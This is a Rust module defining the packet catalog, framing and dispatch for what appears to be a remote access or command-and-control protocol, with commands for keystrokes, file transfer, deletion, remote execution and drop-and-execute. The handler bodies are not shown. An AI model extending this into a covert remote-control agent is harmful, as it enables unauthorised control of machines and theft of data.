//! Packet abstraction, ping-pong exchanges and the catalog registry
//!
//! A frame on the wire is `tag:u8` followed by the packet body. The tag is
//! looked up in [`PacketKind::ALL`] before any body field is read, because
//! only the kind knows the shape of the body.

use async_trait::async_trait;
use serde::{Deserialize, Serialize};
use std::fmt;

use super::codec::{ProtocolResult, WireReader, WireWriter};
use super::commands::*;
use super::connection::ExecuteContext;
use super::error::ProtocolError;
use super::types::Phase;

/// Field-level encoding of a packet body or of a value inside one
///
/// `read_from` must consume exactly the fields `write_to` produced, in the
/// same order.
#[async_trait]
pub trait WireFormat: Sized + Send + Sync {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()>;
	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self>;
}

#[async_trait]
impl WireFormat for () {
	async fn write_to(&self, _w: &mut WireWriter) -> ProtocolResult<()> {
		Ok(())
	}

	async fn read_from(_r: &mut WireReader) -> ProtocolResult<Self> {
		Ok(())
	}
}

/// A question/answer pair carried by a single packet type
///
/// The phase byte travels first, so the receiver needs no prior knowledge of
/// which half to expect. Answering a request produces a new value; a packet
/// is never flipped in place.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Exchange<Q, A> {
	Request(Q),
	Data(A),
}

impl<Q, A> Exchange<Q, A> {
	pub fn phase(&self) -> Phase {
		match self {
			Exchange::Request(_) => Phase::Request,
			Exchange::Data(_) => Phase::Data,
		}
	}

	pub fn request(&self) -> Option<&Q> {
		match self {
			Exchange::Request(q) => Some(q),
			Exchange::Data(_) => None,
		}
	}

	pub fn data(&self) -> Option<&A> {
		match self {
			Exchange::Request(_) => None,
			Exchange::Data(a) => Some(a),
		}
	}

	pub fn into_data(self) -> Option<A> {
		match self {
			Exchange::Request(_) => None,
			Exchange::Data(a) => Some(a),
		}
	}

	/// Turn a request into its data-phase answer
	///
	/// A value that is already in the data phase comes back unchanged in
	/// `Err` and `f` is not called.
	pub fn answer<F>(self, f: F) -> Result<Exchange<Q, A>, Exchange<Q, A>>
	where
		F: FnOnce(Q) -> A,
	{
		match self {
			Exchange::Request(q) => Ok(Exchange::Data(f(q))),
			data => Err(data),
		}
	}
}

#[async_trait]
impl<Q, A> WireFormat for Exchange<Q, A>
where
	Q: WireFormat,
	A: WireFormat,
{
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		w.write_u8(self.phase().to_wire()).await?;
		match self {
			Exchange::Request(q) => q.write_to(w).await,
			Exchange::Data(a) => a.write_to(w).await,
		}
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		match Phase::from_wire(r.read_u8().await?)? {
			Phase::Request => Ok(Exchange::Request(Q::read_from(r).await?)),
			Phase::Data => Ok(Exchange::Data(A::read_from(r).await?)),
		}
	}
}

/// Catalog of packet types, with their wire tags
///
/// Tags are part of the wire format: append new kinds, never renumber.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[repr(u8)]
pub enum PacketKind {
	SystemInfo = 1,
	Keystroke = 2,
	ListDirectory = 3,
	DirectoryEntry = 4,
	Download = 5,
	FileContents = 6,
	Upload = 7,
	Execute = 8,
	Delete = 9,
	CreateDirectory = 10,
	DropAndExecute = 11,
	Stat = 12,
	Ack = 13,
}

impl PacketKind {
	/// Registry consulted by the dispatch loop
	pub const ALL: [PacketKind; 13] = [
		PacketKind::SystemInfo,
		PacketKind::Keystroke,
		PacketKind::ListDirectory,
		PacketKind::DirectoryEntry,
		PacketKind::Download,
		PacketKind::FileContents,
		PacketKind::Upload,
		PacketKind::Execute,
		PacketKind::Delete,
		PacketKind::CreateDirectory,
		PacketKind::DropAndExecute,
		PacketKind::Stat,
		PacketKind::Ack,
	];

	pub fn tag(self) -> u8 {
		self as u8
	}

	pub fn from_tag(tag: u8) -> Option<PacketKind> {
		Self::ALL.iter().copied().find(|kind| kind.tag() == tag)
	}

	pub fn name(self) -> &'static str {
		match self {
			PacketKind::SystemInfo => "system-info",
			PacketKind::Keystroke => "keystroke",
			PacketKind::ListDirectory => "list-directory",
			PacketKind::DirectoryEntry => "directory-entry",
			PacketKind::Download => "download",
			PacketKind::FileContents => "file-contents",
			PacketKind::Upload => "upload",
			PacketKind::Execute => "execute",
			PacketKind::Delete => "delete",
			PacketKind::CreateDirectory => "create-directory",
			PacketKind::DropAndExecute => "drop-and-execute",
			PacketKind::Stat => "stat",
			PacketKind::Ack => "ack",
		}
	}
}

impl fmt::Display for PacketKind {
	fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
		f.write_str(self.name())
	}
}

/// One unit of protocol behavior
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Packet {
	SystemInfo(SystemInfoPacket),
	Keystroke(Keystroke),
	ListDirectory(ListDirectory),
	DirectoryEntry(DirectoryEntry),
	Download(Download),
	FileContents(FileContents),
	Upload(Upload),
	Execute(ExecuteFile),
	Delete(Delete),
	CreateDirectory(CreateDirectory),
	DropAndExecute(DropAndExecute),
	Stat(StatPacket),
	Ack(Ack),
}

impl Packet {
	pub fn kind(&self) -> PacketKind {
		match self {
			Packet::SystemInfo(_) => PacketKind::SystemInfo,
			Packet::Keystroke(_) => PacketKind::Keystroke,
			Packet::ListDirectory(_) => PacketKind::ListDirectory,
			Packet::DirectoryEntry(_) => PacketKind::DirectoryEntry,
			Packet::Download(_) => PacketKind::Download,
			Packet::FileContents(_) => PacketKind::FileContents,
			Packet::Upload(_) => PacketKind::Upload,
			Packet::Execute(_) => PacketKind::Execute,
			Packet::Delete(_) => PacketKind::Delete,
			Packet::CreateDirectory(_) => PacketKind::CreateDirectory,
			Packet::DropAndExecute(_) => PacketKind::DropAndExecute,
			Packet::Stat(_) => PacketKind::Stat,
			Packet::Ack(_) => PacketKind::Ack,
		}
	}

	/// Phase of ping-pong packets, `None` for single-behavior packets
	pub fn phase(&self) -> Option<Phase> {
		match self {
			Packet::SystemInfo(exchange) => Some(exchange.phase()),
			Packet::Stat(exchange) => Some(exchange.phase()),
			_ => None,
		}
	}

	/// Write the full frame: tag, then body
	pub async fn send(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		w.write_tag(self.kind().tag()).await?;
		match self {
			Packet::SystemInfo(p) => p.write_to(w).await,
			Packet::Keystroke(p) => p.write_to(w).await,
			Packet::ListDirectory(p) => p.write_to(w).await,
			Packet::DirectoryEntry(p) => p.write_to(w).await,
			Packet::Download(p) => p.write_to(w).await,
			Packet::FileContents(p) => p.write_to(w).await,
			Packet::Upload(p) => p.write_to(w).await,
			Packet::Execute(p) => p.write_to(w).await,
			Packet::Delete(p) => p.write_to(w).await,
			Packet::CreateDirectory(p) => p.write_to(w).await,
			Packet::DropAndExecute(p) => p.write_to(w).await,
			Packet::Stat(p) => p.write_to(w).await,
			Packet::Ack(p) => p.write_to(w).await,
		}
	}

	/// Decode the body of a frame whose tag has already been read
	pub async fn receive(kind: PacketKind, r: &mut WireReader) -> ProtocolResult<Packet> {
		Ok(match kind {
			PacketKind::SystemInfo => Packet::SystemInfo(SystemInfoPacket::read_from(r).await?),
			PacketKind::Keystroke => Packet::Keystroke(Keystroke::read_from(r).await?),
			PacketKind::ListDirectory => Packet::ListDirectory(ListDirectory::read_from(r).await?),
			PacketKind::DirectoryEntry => {
				Packet::DirectoryEntry(DirectoryEntry::read_from(r).await?)
			}
			PacketKind::Download => Packet::Download(Download::read_from(r).await?),
			PacketKind::FileContents => Packet::FileContents(FileContents::read_from(r).await?),
			PacketKind::Upload => Packet::Upload(Upload::read_from(r).await?),
			PacketKind::Execute => Packet::Execute(ExecuteFile::read_from(r).await?),
			PacketKind::Delete => Packet::Delete(Delete::read_from(r).await?),
			PacketKind::CreateDirectory => {
				Packet::CreateDirectory(CreateDirectory::read_from(r).await?)
			}
			PacketKind::DropAndExecute => {
				Packet::DropAndExecute(DropAndExecute::read_from(r).await?)
			}
			PacketKind::Stat => Packet::Stat(StatPacket::read_from(r).await?),
			PacketKind::Ack => Packet::Ack(Ack::read_from(r).await?),
		})
	}

	/// Read one whole frame
	///
	/// `Ok(None)` means the stream ended cleanly between frames.
	pub async fn read_frame(r: &mut WireReader) -> ProtocolResult<Option<Packet>> {
		let tag = match r.read_tag().await? {
			Some(tag) => tag,
			None => return Ok(None),
		};
		let kind = PacketKind::from_tag(tag).ok_or(ProtocolError::UnknownPacketTag(tag))?;
		Ok(Some(Packet::receive(kind, r).await?))
	}

	/// Perform the receiving side's effect of this packet
	pub async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		match self {
			Packet::SystemInfo(p) => execute_system_info(p, ctx).await,
			Packet::Keystroke(p) => p.execute(ctx).await,
			Packet::ListDirectory(p) => p.execute(ctx).await,
			Packet::DirectoryEntry(p) => p.execute(ctx).await,
			Packet::Download(p) => p.execute(ctx).await,
			Packet::FileContents(p) => p.execute(ctx).await,
			Packet::Upload(p) => p.execute(ctx).await,
			Packet::Execute(p) => p.execute(ctx).await,
			Packet::Delete(p) => p.execute(ctx).await,
			Packet::CreateDirectory(p) => p.execute(ctx).await,
			Packet::DropAndExecute(p) => p.execute(ctx).await,
			Packet::Stat(p) => execute_stat(p, ctx).await,
			Packet::Ack(p) => p.execute(ctx).await,
		}
	}
}


// vim: ts=4
